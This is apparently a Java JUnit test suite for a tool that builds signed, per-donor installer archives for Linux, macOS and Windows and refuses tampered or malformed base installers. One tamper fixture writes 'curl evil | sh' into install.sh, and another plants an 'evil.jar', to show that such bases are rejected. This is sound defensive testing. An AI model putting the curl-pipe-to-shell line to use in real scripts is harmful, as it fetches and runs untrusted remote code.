package io.github.seattleinstaller.builder.customize;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.seattleinstaller.builder.Platform;
import io.github.seattleinstaller.builder.archive.TarGzInstallers;
import io.github.seattleinstaller.builder.testing.Command;
import io.github.seattleinstaller.builder.testing.Readers;
import io.github.seattleinstaller.builder.testing.Readers.Listed;
import io.github.seattleinstaller.builder.testing.Tamper;
import io.github.seattleinstaller.builder.testing.TestInstallers;
import io.github.seattleinstaller.builder.testing.TestKeys;
import io.github.seattleinstaller.builder.verify.InstallerReport;
import io.github.seattleinstaller.builder.verify.InstallerVerifier;
import io.github.seattleinstaller.runtime.filelist.FileListVerifier;
import io.github.seattleinstaller.runtime.input.InvalidInputException;
import io.github.seattleinstaller.runtime.keys.KeyFingerprint;
import io.github.seattleinstaller.runtime.log.ProgressLog;
import io.github.seattleinstaller.runtime.vesselinfo.InvalidVesselInfoException;
import io.github.seattleinstaller.runtime.vesselinfo.VesselInfo;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;

class InstallerCustomizerTest {
    private static final String ALICE = "Percent 100\nOwner 65537 12345678901234567890123\n";
    private static final String BOB = "Percent 80\nOwner 3 33\nUser 5 55\nPercent 20\nOwner 7 77\n";
    private static final String CAROL = "Percent 50\nOwner 11 1111\nPercent 50\nOwner 13 1313\n";

    @TempDir
    static Path shared;
    private static Map<Platform, Path> bases;

    @TempDir
    Path temp;

    @BeforeAll
    static void buildBases() throws Exception {
        bases = TestInstallers.buildBases(shared, shared.resolve("bases"));
    }

    private static CustomizeRequest.Builder request(Path output) {
        return TestInstallers.customizeRequest(bases, output);
    }

    private static List<CustomizeRequest.Donor> donors(String... namesAndTexts) {
        List<CustomizeRequest.Donor> donors = new ArrayList<>();
        for (int index = 0; index < namesAndTexts.length; index += 2) {
            donors.add(new CustomizeRequest.Donor(new DonorName(namesAndTexts[index]),
                    vesselInfo(namesAndTexts[index + 1])));
        }
        return donors;
    }

    static VesselInfo vesselInfo(String text) {
        try {
            return VesselInfo.parse("test vesselinfo", text);
        } catch (InvalidVesselInfoException e) {
            throw new AssertionError(e);
        }
    }

    private static List<CustomizedInstaller> customize(CustomizeRequest request) throws Exception {
        return new InstallerCustomizer(ProgressLog.NONE).customize(request);
    }

    @Test
    void everyDonorGetsAnInstallerPerPlatformNamedAndClassifiedByDonorAndPlatform() throws Exception {
        Path output = temp.resolve("out");
        List<CustomizedInstaller> written = customize(request(output)
                .donors(donors("alice", ALICE, "bob", BOB, "carol.x-1", CAROL)).build());
        assertEquals(9, written.size());
        assertEquals(List.of("alice-linux", "alice-macos", "alice-windows", "bob-linux", "bob-macos", "bob-windows",
                "carol.x-1-linux", "carol.x-1-macos", "carol.x-1-windows"),
                written.stream().map(CustomizedInstaller::classifier).toList());
        assertEquals(output.resolve("seattle-installer-0.1.0-bob-windows.zip"), written.get(5).files().archive());
        Path publicKey = TestInstallers.publicKeyPem(temp.resolve("keys/operator.pub.pem"));
        for (CustomizedInstaller installer : written) {
            Readers.assertOpensslVerifies(publicKey, installer.files().signatureFile(), installer.files().archive());
            Readers.assertSha256sumAccepts(installer.files().checksumFile());
            InstallerReport report = new InstallerVerifier().verify(installer.files().archive(),
                    Optional.of(KeyFingerprint.of(TestKeys.operator().getPublic())));
            String expected = switch (installer.donor()) {
                case "alice" -> ALICE;
                case "bob" -> BOB;
                default -> CAROL;
            };
            assertEquals(expected, new String(report.vesselinfo().orElseThrow(), StandardCharsets.UTF_8));
            assertEquals(Optional.of(installer.platform()), report.platform());
            assertTrue(report.checksumFileChecked() && report.signatureFileChecked());
        }
    }

    @Test
    void gnuTarAndPythonReadTheCustomizedTarGzWithItsVesselinfo() throws Exception {
        Path output = temp.resolve("out");
        List<CustomizedInstaller> written = customize(request(output).donors(donors("bob", BOB)).build());
        for (CustomizedInstaller installer : written.subList(0, 2)) {
            Path archive = installer.files().archive();
            List<Listed> listed = Readers.gnuTarList(archive);
            assertEquals("seattle", Readers.singleTopLevel(listed));
            Readers.assertLayoutModes(listed);
            assertEquals(List.of("seattle/vesselinfo", "seattle/vesselinfo.sig"), listed.subList(listed.size() - 2,
                    listed.size()).stream().map(Listed::name).toList());

            List<String> members = Readers.pythonTarMembers(archive);
            assertEquals(14, members.size());
            assertTrue(members.contains("seattle/vesselinfo 0o644 0 0 '' '' " + TestInstallers.TIMESTAMP.getEpochSecond()
                    + " b'0'"), String.join("\n", members));

            Path extracted = temp.resolve("x " + installer.platform());
            Readers.extract(archive, extracted);
            Path seattle = extracted.resolve("seattle");
            assertEquals(BOB, Files.readString(seattle.resolve("vesselinfo")));
            Readers.assertOpensslVerifies(seattle.resolve("operator.pub.pem"), seattle.resolve("metainfo.sig"),
                    seattle.resolve("metainfo"));
            Readers.assertOpensslVerifies(seattle.resolve("operator.pub.pem"), seattle.resolve("vesselinfo.sig"),
                    seattle.resolve("vesselinfo"));
            FileListVerifier.verifyDirectory(seattle, name -> false, Optional.empty());
        }
    }

    @Test
    void unzipZipinfoAndPythonReadTheCustomizedZipWithItsVesselinfo() throws Exception {
        Path output = temp.resolve("out");
        Path archive = customize(request(output).donors(donors("alice", ALICE)).build()).get(2).files().archive();
        List<Listed> listed = Readers.zipinfoList(archive);
        assertEquals("seattle", Readers.singleTopLevel(listed));
        Readers.assertLayoutModes(listed);
        assertTrue(listed.stream().anyMatch(entry -> entry.name().equals("seattle/vesselinfo")), listed.toString());
        List<String> entries = Readers.pythonZipEntries(archive);
        assertTrue(entries.contains("seattle/vesselinfo 0o100644 (2026, 11, 1, 0, 0, 0) 3"), String.join("\n", entries));
        assertEquals(ALICE, Command.ok(temp, "unzip", "-p", archive.toString(), "seattle/vesselinfo"));
        Path extracted = temp.resolve("x");
        Readers.extract(archive, extracted);
        Path seattle = extracted.resolve("seattle");
        Readers.assertOpensslVerifies(seattle.resolve("operator.pub.pem"), seattle.resolve("vesselinfo.sig"),
                seattle.resolve("vesselinfo"));
        FileListVerifier.verifyDirectory(seattle, name -> false, Optional.empty());
    }

    @Test
    void theCustomizedTarGzIsTheBaseWithoutItsLastMemberThenOneNewMember() throws Exception {
        Path output = temp.resolve("out");
        List<CustomizedInstaller> written = customize(request(output).donors(donors("alice", ALICE, "bob", BOB)).build());
        byte[] base = Files.readAllBytes(bases.get(Platform.LINUX));
        byte[] endMember = TarGzInstallers.endOfArchiveMember();
        assertArrayEquals(endMember, Arrays.copyOfRange(base, base.length - endMember.length, base.length));
        int kept = base.length - endMember.length;
        for (CustomizedInstaller installer : written) {
            if (installer.platform() == Platform.LINUX) {
                byte[] copy = Files.readAllBytes(installer.files().archive());
                assertArrayEquals(Arrays.copyOf(base, kept), Arrays.copyOf(copy, kept), installer.classifier());
                // Two tar headers, the vesselinfo and a 256-byte signature (which does not compress), gzipped.
                assertTrue(copy.length - kept < 600, "the donor's part is small: " + (copy.length - kept));
                // The appended part is one gzip member of its own.
                assertEquals(0x1f, copy[kept] & 0xff);
                assertEquals(0x8b, copy[kept + 1] & 0xff);
            }
        }
    }

    @Test
    void theCustomizedZipKeepsEveryBaseEntryCompressedBytesAndCrcUnchanged() throws Exception {
        Path output = temp.resolve("out");
        Path customized = customize(request(output).donors(donors("bob", BOB)).build()).get(2).files().archive();
        List<String> baseEntries = rawZipEntries(bases.get(Platform.WINDOWS));
        List<String> customizedEntries = rawZipEntries(customized);
        assertEquals(baseEntries.size() + 2, customizedEntries.size());
        assertEquals(baseEntries, customizedEntries.subList(0, baseEntries.size()));
        assertTrue(customizedEntries.get(baseEntries.size()).startsWith("seattle/vesselinfo 0 "),
                customizedEntries.toString());
        assertTrue(customizedEntries.get(baseEntries.size() + 1).startsWith("seattle/vesselinfo.sig 0 "),
                customizedEntries.toString());
    }

    /** Per entry, as Python reads the raw local data: name, method, CRC, compressed size and its SHA-256. */
    private static List<String> rawZipEntries(Path zip) throws Exception {
        String script = "import hashlib, struct, sys, zipfile\n"
                + "f = open(sys.argv[1], 'rb')\n"
                + "for i in zipfile.ZipFile(sys.argv[1]).infolist():\n"
                + "    f.seek(i.header_offset)\n"
                + "    header = f.read(30)\n"
                + "    name_length, extra_length = struct.unpack('<HH', header[26:30])\n"
                + "    f.seek(i.header_offset + 30 + name_length + extra_length)\n"
                + "    raw = f.read(i.compress_size)\n"
                + "    print(i.filename, i.compress_type, i.CRC, i.compress_size, hashlib.sha256(raw).hexdigest())\n";
        return List.of(Command.ok(zip.getParent(), "python3", "-c", script, zip.toString()).split("\n"));
    }

    @Test
    void aBaseWithAChangedFileIsRefusedNamingItAndNothingIsWritten() throws Exception {
        Path tampered = Tamper.changeEntry(bases.get(Platform.LINUX),
                temp.resolve("tampered/seattle-installer-0.1.0-linux.tar.gz"), "seattle/install.sh",
                "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.US_ASCII));
        assertRefused(tampered, Platform.LINUX, "install.sh: changed");
    }

    @Test
    void aBaseWithAnAddedFileIsRefusedNamingItAndNothingIsWritten() throws Exception {
        Path tampered = Tamper.addEntry(bases.get(Platform.WINDOWS),
                temp.resolve("tampered/seattle-installer-0.1.0-windows.zip"), "seattle/lib/evil.jar", new byte[] {1});
        assertRefused(tampered, Platform.WINDOWS, "seattle/lib/evil.jar: added");
    }

    @Test
    void aBaseWithABadSignatureIsRefusedNamingItAndNothingIsWritten() throws Exception {
        Path tampered = Tamper.changeEntry(bases.get(Platform.MACOS),
                temp.resolve("tampered/seattle-installer-0.1.0-macos.tar.gz"), "seattle/metainfo.sig", new byte[256]);
        assertRefused(tampered, Platform.MACOS, "metainfo.sig: the signature does not match");
    }

    @Test
    void aBaseByAnotherOperatorIsRefusedWhenTheExpectedKeyIsGiven() throws Exception {
        Path output = temp.resolve("out");
        KeyFingerprint other = KeyFingerprint.of(TestKeys.other().getPublic());
        InvalidInputException refused = assertThrows(InvalidInputException.class, () -> customize(
                request(output).expectedBaseKey(other).donors(donors("alice", ALICE)).build()));
        for (Path base : bases.values()) {
            assertTrue(refused.getMessage().contains(base + ": " + base.getFileName()
                    + ": seattle/operator.pub.pem: the operator key is"), refused.getMessage());
        }
        assertTrue(refused.getMessage().contains("not the expected " + other), refused.getMessage());
        assertFalse(Files.exists(output));
    }

    @Test
    void aManifestNameThatIsNoPlainFileNameIsRefusedByItsLabelBeforeAnythingIsWritten() throws Exception {
        Path output = temp.resolve("out");
        for (String name : List.of("../manifest", ".hidden", "a/b", "")) {
            InvalidInputException refused = assertThrows(InvalidInputException.class, () -> customize(
                    request(output).donors(donors("alice", ALICE)).manifestName(name).build()), name);
            assertTrue(refused.getMessage().contains("manifest name: '" + name + "' (rule: the manifest name is letters,"
                    + " digits and . _ + - (starting with a letter or digit))"), refused.getMessage());
            assertFalse(Files.exists(output), "nothing is written for a refused request");
            assertFalse(Files.exists(temp.resolve("manifest.json")));
        }
        InvalidInputException labelled = assertThrows(InvalidInputException.class, () -> customize(
                request(output).donors(donors("alice", ALICE)).manifestName("../m", "<manifestName>").build()));
        assertTrue(labelled.getMessage().contains("<manifestName>: '../m'"), labelled.getMessage());
    }

    @Test
    void aBaseWhoseBytesWereDamagedIsRefused() throws Exception {
        byte[] damaged = Files.readAllBytes(bases.get(Platform.LINUX));
        damaged[damaged.length / 2] ^= 0x55;
        Path base = Files.write(Files.createDirectories(temp.resolve("damaged"))
                .resolve("seattle-installer-0.1.0-linux.tar.gz"), damaged);
        assertRefused(base, Platform.LINUX, "cannot be read as a tar.gz");
    }

    private void assertRefused(Path base, Platform platform, String expectedProblem) throws Exception {
        Path output = temp.resolve("out");
        CustomizeRequest request = CustomizeRequest.builder().base(platform, base).donors(donors("alice", ALICE))
                .outputDirectory(output).operatorKey(TestKeys.operatorKey()).build();
        InvalidInputException refused = assertThrows(InvalidInputException.class, () -> customize(request));
        assertTrue(refused.getMessage().contains(base.toString()), refused.getMessage());
        assertTrue(refused.getMessage().contains(expectedProblem), refused.getMessage());
        assertFalse(Files.exists(output), "nothing is written for a refused request");
    }

    @Test
    void anAlreadyCustomizedInstallerIsRefusedAsABase() throws Exception {
        Path output = temp.resolve("out");
        List<CustomizedInstaller> first = customize(request(output).donors(donors("alice", ALICE)).build());
        Path second = temp.resolve("second");
        for (CustomizedInstaller installer : first) {
            CustomizeRequest again = CustomizeRequest.builder().base(installer.platform(), installer.files().archive())
                    .donors(donors("bob", BOB)).outputDirectory(second).operatorKey(TestKeys.operatorKey()).build();
            InvalidInputException refused = assertThrows(InvalidInputException.class, () -> customize(again));
            assertTrue(refused.getMessage().contains(installer.files().archive()
                    + ": it already carries a vesselinfo"), refused.getMessage());
        }
        assertFalse(Files.exists(second));
    }

    @Test
    void aValidTarGzNotLaidOutForAppendingIsRefusedRatherThanRecompressed() throws Exception {
        Path dir = Files.createDirectories(temp.resolve("regzipped"));
        Path oneMember = dir.resolve("seattle-installer-0.1.0-linux.tar.gz");
        // The same tar stream, recompressed by Python as a single gzip member: valid, but not appendable.
        Command.ok(dir, "python3", "-c", "import gzip, sys; open(sys.argv[2], 'wb').write(gzip.compress("
                + "gzip.decompress(open(sys.argv[1], 'rb').read())))", bases.get(Platform.LINUX).toString(),
                oneMember.toString());
        assertRefused(oneMember, Platform.LINUX, "cannot be customized without recompressing: it does not end with "
                + "the end-of-archive gzip member");

        Path early = Files.createDirectories(temp.resolve("early")).resolve("seattle-installer-0.1.0-linux.tar.gz");
        // The whole tar stream, end-of-archive included, in the first member, then the constant member.
        Command.ok(dir, "python3", "-c", "import gzip, sys; open(sys.argv[2], 'wb').write(gzip.compress("
                + "gzip.decompress(open(sys.argv[1], 'rb').read())) + open(sys.argv[1], 'rb').read()[-29:])",
                bases.get(Platform.LINUX).toString(), early.toString());
        assertRefused(early, Platform.LINUX, "holds 2048 bytes after the last entry");
    }

    @Test
    void everyProblemWithTheRequestIsReportedAtOnce() throws Exception {
        Path output = temp.resolve("out");
        Path misnamed = Files.copy(bases.get(Platform.LINUX), temp.resolve("installer.tar.gz"));
        CustomizeRequest request = request(output)
                .base(Platform.LINUX, misnamed)
                .donors(donors("alice", ALICE))
                .outputTimestamp(Instant.parse("2100-01-01T00:00:00Z"))
                .operatorKey(TestKeys.otherKey())
                .build();
        InvalidInputException refused = assertThrows(InvalidInputException.class, () -> customize(request));
        String message = refused.getMessage();
        for (String expected : List.of("2100-01-01T00:00:00Z", misnamed + ": a second linux base",
                bases.get(Platform.WINDOWS) + ": the base carries " + KeyFingerprint.of(TestKeys.operator().getPublic())
                        + ", the signing key is " + KeyFingerprint.of(TestKeys.other().getPublic()))) {
            assertTrue(message.contains(expected), "missing '" + expected + "' in:\n" + message);
        }
        assertFalse(message.contains("Exception"), message);
        assertFalse(Files.exists(output));

        CustomizeRequest wrongName = CustomizeRequest.builder().base(Platform.LINUX, misnamed)
                .donors(donors("alice", ALICE)).outputDirectory(output).operatorKey(TestKeys.operatorKey()).build();
        InvalidInputException badName = assertThrows(InvalidInputException.class, () -> customize(wrongName));
        assertTrue(badName.getMessage().contains(misnamed + ": its name does not end so (rule: a linux base "
                + "installer is named <name>-linux.tar.gz)"), badName.getMessage());
        CustomizeRequest noDonors = request(output).build();
        InvalidInputException none = assertThrows(InvalidInputException.class, () -> customize(noDonors));
        assertTrue(none.getMessage().contains("no donor (rule: at least one donor)"), none.getMessage());
    }

    @Test
    void aRepeatedDonorNameIsRefusedWhenTheRequestIsMade() {
        CustomizeRequest.Builder request = request(temp.resolve("out")).donors(donors("Alice", ALICE));
        IllegalArgumentException repeated = assertThrows(IllegalArgumentException.class,
                () -> request.donors(donors("alice", BOB)));
        assertEquals(DonorName.UNIQUE_RULE + ": 'alice' repeats 'Alice'", repeated.getMessage());
    }

    @Test
    void theFinderTakesOneBasePerPlatformAndPassesOverCustomizedInstallers() throws Exception {
        Path directory = Files.createDirectories(temp.resolve("mixed"));
        for (Path base : bases.values()) {
            Files.copy(base, directory.resolve(base.getFileName()));
        }
        customize(request(directory).donors(donors("alice", ALICE)).build());
        assertEquals(List.of(Platform.LINUX, Platform.MACOS, Platform.WINDOWS), BaseInstallerFinder.platformsIn(directory));

        List<CustomizeRequest.Base> found = BaseInstallerFinder.find(directory, "base directory", List.of(Platform.values()));
        assertEquals(List.of("seattle-installer-0.1.0-linux.tar.gz", "seattle-installer-0.1.0-macos.tar.gz",
                "seattle-installer-0.1.0-windows.zip"),
                found.stream().map(base -> base.file().getFileName().toString()).toList());

        Files.copy(bases.get(Platform.LINUX), directory.resolve("other-linux.tar.gz"));
        Files.delete(directory.resolve("seattle-installer-0.1.0-windows.zip"));
        InvalidInputException ambiguous = assertThrows(InvalidInputException.class,
                () -> BaseInstallerFinder.find(directory, "base directory", List.of(Platform.values())));
        assertTrue(ambiguous.getMessage().contains("2 for linux: [other-linux.tar.gz, seattle-installer-0.1.0-linux.tar.gz]"),
                ambiguous.getMessage());
        assertTrue(ambiguous.getMessage().contains("none for windows"), ambiguous.getMessage());
    }

    @Test
    void aFailurePartWayLeavesNoOutputsAndNoTemporaryFiles() throws Exception {
        Path output = Files.createDirectories(temp.resolve("out"));
        int[] staged = {0};
        InstallerCustomizer failing = new InstallerCustomizer(ProgressLog.NONE, fileName -> {
            if (++staged[0] == 10) {
                throw new IOException("disk full (injected)");
            }
        });
        IOException failure = assertThrows(IOException.class,
                () -> failing.customize(request(output).donors(donors("alice", ALICE, "bob", BOB)).build()));
        assertEquals("disk full (injected)", failure.getMessage());
        try (Stream<Path> left = Files.list(output)) {
            assertEquals(List.of(), left.toList());
        }
    }

    @Test
    void anOutputPathTakenByADirectoryIsRefusedBeforeWriting() throws Exception {
        Path output = temp.resolve("out");
        Files.createDirectories(output.resolve("seattle-installer-0.1.0-bob-macos.tar.gz.sig"));
        InvalidInputException refused = assertThrows(InvalidInputException.class,
                () -> customize(request(output).donors(donors("alice", ALICE, "bob", BOB)).build()));
        assertTrue(refused.getMessage().contains("bob-macos.tar.gz.sig: it is a directory"), refused.getMessage());
        try (Stream<Path> left = Files.list(output)) {
            assertEquals(1, left.count());
        }
    }

    @Test
    void customizingTwiceWithTheSameTimestampGivesTheSameBytes() throws Exception {
        List<CustomizedInstaller> first = customize(request(temp.resolve("one")).donors(donors("bob", BOB)).build());
        List<CustomizedInstaller> second = customize(request(temp.resolve("two")).donors(donors("bob", BOB)).build());
        for (int index = 0; index < first.size(); index++) {
            assertArrayEquals(Files.readAllBytes(first.get(index).files().archive()),
                    Files.readAllBytes(second.get(index).files().archive()));
            assertArrayEquals(Files.readAllBytes(first.get(index).files().signatureFile()),
                    Files.readAllBytes(second.get(index).files().signatureFile()));
        }
    }
}
